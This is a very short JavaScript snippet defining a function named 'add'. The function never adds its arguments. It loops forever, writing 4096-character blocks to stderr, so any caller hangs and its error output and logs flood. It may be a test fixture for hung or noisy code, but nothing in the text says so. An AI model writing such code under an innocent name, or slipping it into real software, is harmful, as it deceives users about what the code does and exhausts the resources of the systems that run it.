const add = (a, b) => {
  for (;;) require('fs').writeSync(2, 'x'.repeat(4096))
}
